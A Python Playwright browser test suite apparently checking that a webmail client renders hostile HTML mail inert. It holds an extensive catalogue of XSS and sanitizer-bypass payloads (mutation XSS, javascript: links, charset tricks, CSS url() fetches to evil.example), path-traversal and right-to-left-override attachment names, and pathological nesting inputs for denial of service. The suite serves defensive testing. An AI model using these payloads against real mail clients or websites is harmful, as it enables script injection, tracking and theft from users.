"""Hostile mail in the real page: nothing in it runs, nothing is fetched, nothing gets out of its frame."""

import base64
from email.message import EmailMessage

import pytest
from playwright.async_api import Route, expect

from tests.browser.conftest import COUNTS_READ_ANEW, Desk

pytestmark = pytest.mark.asyncio(loop_scope="session")

MALLORY = "Mallory <mallory@evil.example>"
PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
BLACK = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg=="
HOSTILE = """
<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css"><style>@import url(https://evil.example/import.css);
body { background: url(https://evil.example/background.png) }</style><script>top.ran = "script"</script></head>
<body onload="top.ran='onload'" background="https://evil.example/body.png">
<p>Words that stay</p>
<img src="https://evil.example/pixel.png" onerror="top.ran='onerror'" srcset="https://evil.example/2x.png 2x">
<img src="x" onerror="top.ran='relative'"><svg onload="top.ran='svg'"><script>top.ran='svg script'</script></svg>
<svg><image href="https://evil.example/svg.png"/></svg><video poster="https://evil.example/poster.png" src="https://evil.example/v"></video>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<form action="https://evil.example/form"><input name="password"><button>Send</button></form>
<a href="javascript:top.ran='link'">javascript</a> <a href="data:text/html,<script>top.ran='data'</script>">data</a>
<a href="https://evil.example/page" ping="https://evil.example/ping">page</a>
<div style="position:fixed;inset:0;z-index:99999;background:red url(https://evil.example/cover.png)">covers the page</div>
<p style="font-family:x;background-image:url('https://evil.example/style.png')">styled</p>
<math><mtext><table><mglyph><style><img src=x onerror="top.ran='mutation'"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=top.ran='noscript'>"></noscript>
</body></html>
"""


async def test_nothing_runs_and_nothing_is_fetched(desk: Desk) -> None:
    desk.arrive(MALLORY, "You have won", html=HOSTILE)
    await desk.open("You have won")
    frame = desk.page.frame_locator(".mail-frame")
    await expect(frame.locator("body")).to_contain_text("Words that stay")
    await expect(
        frame.locator("script, style + style, svg, iframe, object, embed, form, input, link, base, meta[http-equiv]")
    ).to_have_count(0)
    await expect(frame.locator("a[href]")).to_have_count(1)
    await frame.locator("a", has_text="javascript").click()
    await frame.locator("a", has_text="data").click()
    assert await desk.page.evaluate("window.ran") is None
    assert await frame.locator("div", has_text="covers the page").evaluate("node => getComputedStyle(node).position") == "static"
    assert not [address for address in desk.requests if "evil" in address]
    assert len(desk.page.context.pages) == 1


FETCHERS = {
    "script": "<script src='https://evil.example/1'></script><script>top.ran = 1</script>",
    "handlers": "<b onclick='top.ran=1' onmouseover='top.ran=1' onfocus='top.ran=1' tabindex=0 autofocus>press me</b>",
    "details": "<details open ontoggle='top.ran=1'><summary>more</summary></details><marquee onstart='top.ran=1'>x</marquee>",
    "form": "<form action='https://evil.example/1'><input autofocus onfocus='top.ran=1'><input type=image src='https://evil.example/2'></form>",
    "javascript link": "<a href='javascript:top.ran=1'>press me</a>",
    "javascript link in disguise": "<a href=' &#1;java&#10;script&colon;top.ran=1'>press me</a>",
    "data link": "<a href='data:text/html,<script>opener.ran=1</script>'>press me</a>",
    "vbscript and file links": "<a href='vbscript:1'>one</a><a href='file:///etc/hostname'>press me</a>",
    "css fetches": """<style>@import 'https://evil.example/1'; @font-face { font-family: f; src: url(https://evil.example/2) }
        p { font-family: f; background: url(https://evil.example/3) } p::after { content: url(https://evil.example/4) }</style>
        <p style="font-family:f;background:url(https://evil.example/5);list-style:url(https://evil.example/6);
        border-image:url(https://evil.example/7);cursor:url(https://evil.example/8),auto;color:url(https://evil.example/9)">x</p>""",
    "svg": """<svg onload="top.ran=1"><script>top.ran=1</script><image href="https://evil.example/1"/><use href="https://evil.example/2#x"/>
        <a xlink:href="javascript:top.ran=1"><text>x</text></a><foreignObject><iframe src="https://evil.example/3"></iframe>
        </foreignObject><animate onbegin="top.ran=1"/></svg><img src="data:image/svg+xml,<svg onload='top.ran=1'/>">""",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/1'><base href='https://evil.example/'><img src='2'>",
    "links that fetch": """<link rel=prefetch href='https://evil.example/1'><link rel=preload as=image href='https://evil.example/2'>
        <link rel=dns-prefetch href='//evil.example'><link rel=preconnect href='https://evil.example'>""",
    "embedded": """<object data='https://evil.example/1'></object><embed src='https://evil.example/2'><iframe src='https://evil.example/3'>
        </iframe><iframe srcdoc='<script>top.ran=1</script>'></iframe><frameset><frame src='https://evil.example/4'></frameset>""",
    "pictures": """<img srcset='https://evil.example/1 2x'><picture>
        <source srcset='https://evil.example/2'><img src='//evil.example/3'></picture>
        <video poster='https://evil.example/4'><source src='https://evil.example/5'></video><audio src='https://evil.example/6'></audio>
        <table background='https://evil.example/7'><tr><td background='https://evil.example/8'>x</table>
        <img lowsrc='https://evil.example/9' dynsrc='https://evil.example/10' longdesc='https://evil.example/11'>""",
    "mutations": """<math><mtext><table><mglyph><style><img src=x onerror="top.ran=1"></style></mglyph></table></mtext></math>
        <noscript><p title="</noscript><img src=x onerror=top.ran=1>"></noscript><xmp><p title="</xmp><img src=x onerror=top.ran=1>"></xmp>
        <form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=top.ran=1 src>">""",
    "conditional comments": """<!--[if IE]><img src=x onerror=top.ran=1><![endif]--><!--><img src=x onerror=top.ran=1>-->
        <!-- --!><img src=x onerror=top.ran=1><!--<!--><img src=x onerror=top.ran=1>""",
    "CDATA and instructions": """<svg><![CDATA[><img src=x onerror=top.ran=1>]]></svg><![CDATA[<img src=x onerror=top.ran=1>]]>
        <?xml-stylesheet href='https://evil.example/1'?><!DOCTYPE html [<!ENTITY x SYSTEM 'https://evil.example/2'>]>""",
    "plaintext": "<plaintext><img src=x onerror=top.ran=1><script>top.ran=1</script>",
    "templates": """<template><img src=x onerror=top.ran=1></template><select><template><style></select>
        <img src=x onerror=top.ran=1></style></template></select><div><template shadowrootmode=open><img src=x onerror=top.ran=1></div>""",
    "null bytes": "<scr\0ipt>top.ran=1</scr\0ipt><img\0 src=x onerror=top.ran=1><a href='java\0script:top.ran=1'>press me</a>",
    "MathML": """<math href='javascript:top.ran=1'><mtext>press me</mtext></math><math><maction actiontype=statusline
        xlink:href='javascript:top.ran=1'>x</maction><annotation-xml encoding='text/html'><style><img src=x onerror=top.ran=1>
        </style></annotation-xml></math>""",
    "SVG that mutates": """<svg></p><style><a id="</style><img src=x onerror=top.ran=1>"></style></svg><svg><desc><style><img src=x
        onerror=top.ran=1></style></desc><set attributeName=href to=javascript:top.ran=1><animate attributeName=href
        values=javascript:top.ran=1></svg><svg><use href='data:image/svg+xml,<svg id=x onload=top.ran=1>#x'/></svg>""",
    "pictures that run": """<img src='data:text/html,<script>top.ran=1</script>'><img src='data:image/svg+xml;base64,PHN2Zy8+'>
        <img src='cid:nobody'><img src='javascript:top.ran=1'><img src='blob:https://evil.example/1'><image src='https://evil.example/2'>""",
    "other elements that fetch": """<portal src='https://evil.example/1'></portal><applet code='https://evil.example/2'></applet>
        <bgsound src='https://evil.example/3'><track src='https://evil.example/4'><input type=image src='https://evil.example/5'>
        <frame src='https://evil.example/6'><body background='https://evil.example/7'><isindex action='https://evil.example/8'>
        <link rel=modulepreload href='https://evil.example/9'><link rel=icon href='https://evil.example/10'>
        <link rel=manifest href='https://evil.example/11'><script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/12"]}]}
        </script><blockquote cite='https://evil.example/13'>x</blockquote><q cite='https://evil.example/14'>x</q>""",
    "moving and covering": """<style>@keyframes k { to { background: url(https://evil.example/1) } }</style>
        <p style="animation:k 1s;transition:all 1s;\\70osition:fixed;posi/**/tion:fixed;transform:scale(99);filter:url(https://evil.example/2);
        mask:url(https://evil.example/3);clip-path:url(https://evil.example/4);content:url(https://evil.example/5);
        background:image-set('https://evil.example/6' 1x);--x:url(https://evil.example/7);width:var(--x)">x</p>""",
    "named windows": """<a href='https://evil.example/1' target='_top' name='ran'></a><a id='ran' name='ran'></a><img name='ran'>
        <form name='ran'></form><iframe name='ran'></iframe><base target='_top'>""",
    "quotes": """<p title='<img src=x onerror=top.ran=1>'>x</p><p a"b='"><img src=x onerror=top.ran=1>'>y</p>
        <img src="x` `" onerror=top.ran=1>""",
}


@pytest.mark.parametrize("html", FETCHERS.values(), ids=FETCHERS.keys())
async def test_nothing_runs_and_nothing_is_even_tried(desk: Desk, html: str) -> None:
    """Stricter than what the browser's policies refuse: the cleaning has left nothing for them to refuse."""
    tried: list[str] = []
    desk.page.context.on("request", lambda request: tried.append(request.url))
    subject = f"Hostile number {list(FETCHERS.values()).index(html)}."
    desk.arrive(MALLORY, subject, html=f"<p>Words that stay</p>{html}")
    await desk.open(subject)
    frame = desk.page.frame_locator(".mail-frame")
    await expect(frame.locator("body")).to_contain_text("Words that stay")
    for pressed in await frame.get_by_text("press me").all():
        await pressed.click()
    assert await desk.page.evaluate("window.ran") is None
    assert [address for address in tried if not address.startswith(desk.demo.address)] == []
    assert len(desk.page.frames) == 2, "the page and the mail's frame"
    assert len(desk.page.context.pages) == 1
    assert desk.page.url.startswith(desk.demo.address)


CHARSETS = {
    "utf-7": b"+ADw-script+AD4-top.ran=1+ADw-/script+AD4APA-img src=x onerror=top.ran=1+AD4-Words that stay",
    "utf-16": "<script>top.ran=1</script><img src=x onerror=top.ran=1>Words that stay".encode("utf-16"),
    "iso-2022-jp": b"Words that stay\x1b$B<script>\x1b(B<img src=x onerror=top.ran=1 title='\x1b$B'>",
    "utf-8": b"\xc0\xbcscript\xc0\xbetop.ran=1\xff\xfe<img src=x\x80 onerror=top.ran=1>Words that stay",
    "gb18030": b"Words that stay<a title='\x81'><img src=x onerror=top.ran=1>'>",
    "no-such-charset": b"Words that stay<script>top.ran=1</script><img src=x onerror=top.ran=1>",
}


@pytest.mark.parametrize("charset", CHARSETS)
async def test_no_charset_hides_what_would_run(desk: Desk, charset: str) -> None:
    head = f"From: {MALLORY}\nSubject: Written in {charset}\nMIME-Version: 1.0\nContent-Type: text/html; charset={charset}\n\n"
    desk.demo.world.mailbox(desk.demo.user.address).arrive(head.encode() + CHARSETS[charset])
    await desk.open(f"Written in {charset}")
    frame = desk.page.frame_locator(".mail-frame")
    await expect(frame.locator("body")).to_contain_text("Words that stay")
    await expect(frame.locator("script, [onerror], img[src]")).to_have_count(0)
    assert await desk.page.evaluate("window.ran") is None
    assert [address for address in desk.requests if not address.startswith(desk.demo.address)] == []


async def test_a_frame_as_high_as_itself_does_not_grow(desk: Desk) -> None:
    desk.arrive(MALLORY, "High as the sky", html="<div style='height:100vh;width:100vw'>Words</div><p style='height:50vh'>x</p>")
    await desk.open("High as the sky")
    frame = desk.page.locator(".mail-frame")
    await expect(desk.page.frame_locator(".mail-frame").locator("body")).to_contain_text("Words")
    heights = await frame.evaluate(
        """async frame => {
            const heights = [];
            for (let number = 0; number < 60; number += 1) {
                await new Promise(requestAnimationFrame);
                heights.push(frame.offsetHeight);
            }
            return heights.slice(30);
        }"""
    )
    assert len(set(heights)) == 1
    assert heights[0] < 400


async def test_nothing_leaves_the_frame(desk: Desk) -> None:
    """Whatever its CSS says: the toolbar, the list of labels and the panel are still what lies under the mouse."""
    cover = "position:fixed;position:sticky;inset:-9999px;z-index:2147483647;width:9999px;height:9999px;background-color:red"
    pull = "margin:-9999px -9999px -9999px -9999px;padding:9999px;width:30000px;transform:scale(99);background-color:red"
    style = (
        "<style>html, body, * { position: fixed !important; inset: -9999px !important; z-index: 2147483647 !important }</style>"
    )
    desk.arrive(MALLORY, "Over everything", html=f"{style}<p>Words</p><div style='{cover}'>a</div><div style='{pull}'>b</div>")
    await desk.open("Over everything")
    await expect(desk.page.frame_locator(".mail-frame").locator("body")).to_contain_text("Words")
    covered = await desk.page.evaluate(
        """() => [...document.querySelectorAll("#toolbar button, #labels a, #panel .panel-bar button, .top button")]
            .filter(node => node.checkVisibility() && node.getBoundingClientRect().width > 0)
            .filter(node => {
                const { left, top, width, height } = node.getBoundingClientRect();
                const x = left + width / 2, y = top + height / 2;
                return y < innerHeight && !node.contains(document.elementFromPoint(x, y));
            }).length"""
    )
    assert covered == 0
    overflow = await desk.page.evaluate("document.documentElement.scrollWidth - innerWidth")
    assert overflow <= 0


async def test_a_link_opens_beside_the_page_and_never_in_its_place(desk: Desk) -> None:
    await desk.page.context.route("https://evil.example/*", lambda route: route.fulfill(body="<p>elsewhere</p>"))
    desk.arrive(
        MALLORY,
        "Out of the frame",
        html="<a href='https://evil.example/page' target=_top ping='https://evil.example/ping'>go</a>",
    )
    await desk.open("Out of the frame")
    before = desk.page.url
    async with desk.page.context.expect_page() as opened:
        await desk.page.frame_locator(".mail-frame").locator("a").click()
    elsewhere = await opened.value
    await elsewhere.wait_for_load_state()
    assert await elsewhere.evaluate("window.opener") is None
    assert desk.page.url == before
    assert [address for address in desk.requests if "evil" in address] == ["https://evil.example/page"]
    desk.requests.remove("https://evil.example/page")


async def test_a_script_could_not_run_even_if_it_got_through(desk: Desk) -> None:
    """The frame's sandbox and policy hold on their own, without the cleaning before them."""
    desk.arrive(MALLORY, "Second line of defence", html="<p>harmless</p>")
    await desk.open("Second line of defence")
    body = desk.page.frame_locator(".mail-frame").locator("body")
    await expect(body).to_contain_text("harmless")
    await body.evaluate(
        """body => {
            const image = document.createElement("img");
            image.src = "https://evil.example/late.png";
            const script = document.createElement("script");
            script.textContent = "parent.ran = 'late'";
            body.append(image, script);
            body.insertAdjacentHTML("beforeend", "<b onclick=\\"parent.ran='click'\\">press</b>");
        }"""
    )
    await body.locator("b").click()
    assert await desk.page.evaluate("window.ran") is None
    assert not [address for address in desk.requests if "evil" in address]
    assert desk.complaints, "the browser says that it has refused"
    desk.complaints.clear()


ACTIVE = """
<script>parent.ran = top.ran = "script"; top.location = "https://evil.example/script"</script>
<img src="data:image/gif;base64,x" onerror="parent.ran='handler'"><svg onload="parent.ran='svg'"></svg>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<iframe srcdoc="<script>top.ran='srcdoc'</script>"></iframe>
<p>Words</p>
<a id="script" href="javascript:parent.ran='link'">one</a>
<a id="top" href="https://evil.example/top" target="_top">two</a>
<a id="self" href="https://evil.example/self">three</a>
<form action="https://evil.example/form" target="_top"><button id="form">four</button></form>
"""


async def uncleaned(desk: Desk, subject: str, html: str, *, with_policy: bool) -> None:
    """A mail whose frame will get this HTML as it is, as if the cleaning had let all of it through."""

    async def answer(route: Route) -> None:
        response = await route.fetch()
        policy = response.headers["content-security-policy"]
        headers = {"content-type": "text/html"} | ({"content-security-policy": policy} if with_policy else {})
        await route.fulfill(body=html, headers=headers)

    await desk.page.context.route("**/mails/*/body*", answer)
    desk.arrive(MALLORY, subject, html="<p>harmless</p>")


async def test_the_frames_sandbox_holds_without_cleaning_and_policy(desk: Desk) -> None:
    await uncleaned(desk, "The sandbox alone", ACTIVE, with_policy=False)
    await desk.open("The sandbox alone")
    before = desk.page.url
    for pressed in ("script", "form", "top", "self"):
        frame = desk.page.frame_locator(".mail-frame")
        await expect(frame.locator("p")).to_have_text("Words")
        await frame.locator(f"#{pressed}").click()
    await desk.page.evaluate("new Promise(done => setTimeout(done, 300))")
    assert await desk.page.evaluate("window.ran") is None
    assert desk.page.url == before
    assert not [address for address in desk.requests if "evil" in address]
    assert desk.complaints, "the browser says that it has refused"
    desk.complaints.clear()


async def test_the_mails_policy_holds_without_cleaning_and_frame(desk: Desk) -> None:
    """The mail's address opened by itself: nothing of this page is around it."""
    await uncleaned(desk, "The policy alone", HOSTILE + ACTIVE, with_policy=True)
    await desk.open("The policy alone")
    address = await desk.page.locator(".mail-frame").get_attribute("src")
    alone = await desk.page.context.new_page()
    await alone.goto(f"{desk.demo.address}{address}")
    await expect(alone.get_by_text("Words", exact=True)).to_be_visible()
    for pressed in ("script", "form"):
        await alone.locator(f"#{pressed}").click(force=True)
    await desk.page.evaluate("new Promise(done => setTimeout(done, 300))")
    assert await alone.evaluate("window.ran") is None
    assert alone.url == f"{desk.demo.address}{address}"
    assert not [url for url in desk.requests if "evil" in url]
    desk.complaints.clear()


FILES = {
    "<img src=x onerror=top.ran=1>.html": ("html", "<script>top.ran = opener.ran = 'html'</script>"),
    '"><svg onload=top.ran=1>.svg': ("svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='top.ran=1'/>"),
    "../../../../etc/passwd": ("plain", "root"),
    "invoice\u202efdp.exe": ("plain", "MZ"),
}


async def test_attachments_are_saved_and_never_shown(desk: Desk) -> None:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = MALLORY, desk.demo.user.address, "Please open the attachments"
    mail.set_content("They are harmless.")
    for name, (kind, text) in FILES.items():
        mail.add_attachment(text, subtype="plain", filename=name)
        part = list(mail.iter_attachments())[-1]
        part.replace_header("Content-Type", f"{'image' if kind == 'svg+xml' else 'text'}/{kind}")
    desk.demo.world.mailbox(desk.demo.user.address).arrive(mail.as_bytes())
    await desk.open("Please open the attachments")
    before = desk.page.url
    links = desk.page.locator(".attachment")
    await expect(links).to_have_count(len(FILES))
    for name in ("<img src=x onerror=top.ran=1>.html", '"><svg onload=top.ran=1>.svg', "passwd", "invoicefdp.exe"):
        await expect(desk.page.locator(".attachments")).to_contain_text(name)
    for link in await links.all():
        async with desk.page.expect_download() as saved:
            await link.click()
        assert "/" not in (await saved.value).suggested_filename
        address = await link.get_attribute("href")
        assert address
        response = await desk.page.context.request.get(f"{desk.demo.address}{address}")
        headers = response.headers
        assert headers["content-type"] == "application/octet-stream"
        assert headers["content-disposition"].startswith("attachment;")
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["content-security-policy"] == "sandbox"
    assert await desk.page.evaluate("window.ran") is None
    assert desk.page.url == before
    assert len(desk.page.context.pages) == 1


async def test_pictures_of_the_mail_itself_are_shown_and_others_asked_for(desk: Desk) -> None:
    desk.arrive(MALLORY, "With pictures", html=f'<p>See <img id=a src="{PIXEL}"><img src="https://evil.example/far.png"></p>')
    await desk.open("With pictures")
    await expect(desk.page.get_by_role("button", name="Display images below")).to_be_visible()
    images = desk.page.frame_locator(".mail-frame").locator("img")
    assert await images.first.evaluate("node => node.naturalWidth") == 1
    assert not [address for address in desk.requests if "evil" in address]
    gif = base64.b64decode(PIXEL.partition(",")[2])
    await desk.page.context.route("https://evil.example/far.png", lambda route: route.fulfill(body=gif, content_type="image/gif"))
    async with desk.page.expect_response("https://evil.example/far.png"):
        await desk.page.get_by_role("button", name="Display images below").click()
    await expect(images.last).to_have_attribute("src", "https://evil.example/far.png")
    desk.requests.remove("https://evil.example/far.png")


DEEP = {
    "open": "<div>" * 2_000_000,
    "ends of tags that are not open": "<div></x>" * 1_100_000,
    "ends within comments": "<div><!--</div>-->" * 550_000,
    "ends within attributes": """<div title='></div>'>""" * 500_000,
    "formats for each paragraph": "<p>" + "".join(f"<b title={n}>" for n in range(39)) + "</p>" + "<p>x</p>" * 1_200_000,
}


@pytest.mark.parametrize("html", DEEP.values(), ids=DEEP.keys())
async def test_ten_megabytes_of_nesting_open_at_once(desk: Desk, html: str) -> None:
    subject = f"Deep as the sea {list(DEEP.values()).index(html)}."
    desk.arrive(MALLORY, subject, html=html + "the ground")
    await desk.open(subject)
    frame = desk.page.frame_locator(".mail-frame")
    await expect(frame.locator("body")).to_be_visible()
    assert await frame.locator("body *").count() <= 50_000


SLOW_TO_READ = {
    "declarations": "<?" * 145_000,
    "attributes": "<a " + " ".join(f"a{n}" for n in range(40_000)) + ">x</a>",
    "items in terms": "<li><dt>" * 37_000,
    "entities": "&nbsp;&amp;" * 27_000,
    "line ends": "<br>" * 49_000,
    "line ends in directions": "<div dir=auto>" * 100 + "<br>" * 48_000,
}


@pytest.mark.parametrize("html", SLOW_TO_READ.values(), ids=SLOW_TO_READ.keys())
async def test_markup_that_is_slow_to_read_opens_at_once(desk: Desk, html: str) -> None:
    subject = f"Slow as a river {list(SLOW_TO_READ.values()).index(html)}."
    mail_id = desk.arrive(MALLORY, subject, html=f"<p>Words that stay</p>{html}")
    await desk.open(subject)
    frame = desk.page.frame_locator(".mail-frame")
    await expect(frame.locator("body")).to_contain_text("Words that stay")
    assert await frame.locator("body *").count() <= 50_000
    sent = await desk.page.request.get(f"{desk.demo.address}/desk/ada@corp.example/mails/{mail_id}/body")
    assert len(await sent.body()) < 600_000


async def test_a_picture_used_three_thousand_times_is_sent_once(desk: Desk) -> None:
    png = base64.b64decode(BLACK) + bytes(400_000)
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = MALLORY, desk.demo.user.address, "One picture again and again"
    mail.set_content("<p>Words that stay</p>" + "<img width=8 src='cid:one@mail'>" * 3_000, subtype="html")
    mail.add_related(png, maintype="image", subtype="png", cid="<one@mail>")
    mail_id = desk.demo.world.mailbox(desk.demo.user.address).arrive(mail.as_bytes()).id
    await desk.open("One picture again and again")
    images = desk.page.frame_locator(".mail-frame").locator("img")
    await expect(images).to_have_count(3_000)
    for image in (images.first, images.last):
        await expect(image).to_have_js_property("naturalWidth", 1)
    address = f"{desk.demo.address}/desk/ada@corp.example/mails/{mail_id}"
    fetched = [url for url in desk.requests if "/pictures/" in url]
    assert len(fetched) == 1, "the browser keeps it for the other uses"
    sent = await desk.page.request.get(f"{address}/body")
    assert len(await sent.body()) < 500_000
    for part in ("0", "2", "1.0", "..", "x"):
        assert (await desk.page.request.get(f"{address}/pictures/{part}")).status == 404


SLOW_TO_LINK = {
    "dots": "a." * 95_000,
    "signs": "+a" * 95_000,
    "addresses": "a@b.cc " * 27_000,
    "halves": "a@b-" * 45_000,
    "punctuation": "http://" + "," * 190_000,
}


@pytest.mark.parametrize("text", SLOW_TO_LINK.values(), ids=SLOW_TO_LINK.keys())
async def test_plain_text_that_is_slow_to_search_for_addresses_opens_at_once(desk: Desk, text: str) -> None:
    await desk.page.add_init_script(COUNTS_READ_ANEW)
    subject = f"Plain as a pikestaff {list(SLOW_TO_LINK.values()).index(text)}."
    desk.arrive(MALLORY, subject, f"See https://a.example/x or <ada@a.example>.\n{text}")
    await desk.open(subject)
    links = desk.page.locator(".plain a")
    assert await links.evaluate_all("links => links.slice(0, 2).map(link => link.href)") == [
        "https://a.example/x",
        "mailto:ada@a.example",
    ]
    assert await desk.page.evaluate("window.readAnew") < 500


async def test_headers_are_text_and_never_markup(desk: Desk) -> None:
    desk.arrive('"<img src=x onerror=top.ran=1>" <x@evil.example>', "<script>top.ran=2</script> & more", "<b>plain</b> text")
    await desk.open("more")
    await expect(desk.page.locator(".thread-head h1")).to_have_text("<script>top.ran=2</script> & more")
    await expect(desk.page.locator(".plain")).to_contain_text("<b>plain</b> text")
    assert await desk.page.evaluate("window.ran") is None


async def test_another_sites_page_may_ask_the_desk_nothing(desk: Desk) -> None:
    request = desk.page.context.request
    address = f"{desk.demo.address}/desk/ada@corp.example/"
    assert (await request.get(f"{address}labels")).status == 200
    assert (await request.get(f"{address}labels", headers={"Sec-Fetch-Site": "cross-site"})).status == 403
    assert (await request.get(f"{address}labels", headers={"Host": "evil.example"})).status == 403
    foreign = await request.post(
        f"{address}job", data="{}", headers={"Content-Type": "application/json", "Origin": "https://evil.example"}
    )
    assert foreign.status == 403
    assert (await request.post(f"{address}job", form={"dry_run": "1"})).status == 415


async def test_a_mails_body_is_sent_so_that_nothing_of_it_gets_around(desk: Desk) -> None:
    mail_id = desk.arrive(MALLORY, "The headers of its body", html="<p>harmless</p>")
    address = f"{desk.demo.address}/desk/ada@corp.example/mails/{mail_id}/body"
    own = f"img-src data: {address.removesuffix('body')}pictures/"
    for query, images in (("", f"{own};"), ("?images=1", f"{own} https: http:;")):
        headers = (await desk.page.context.request.get(address + query)).headers
        policy = headers["content-security-policy"]
        assert all(rule in policy for rule in ("default-src 'none';", images, "base-uri 'none'", "form-action 'none'"))
        assert policy.endswith("frame-ancestors 'self'; sandbox allow-same-origin allow-popups allow-popups-to-escape-sandbox")
        assert headers["content-type"] == "text/html; charset=utf-8"
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "no-referrer"
        assert headers["x-dns-prefetch-control"] == "off"


async def test_the_pages_own_policy_is_strict(desk: Desk) -> None:
    policy = (await desk.page.context.request.get(desk.demo.address)).headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src 'self'" in policy
    assert "unsafe" not in policy
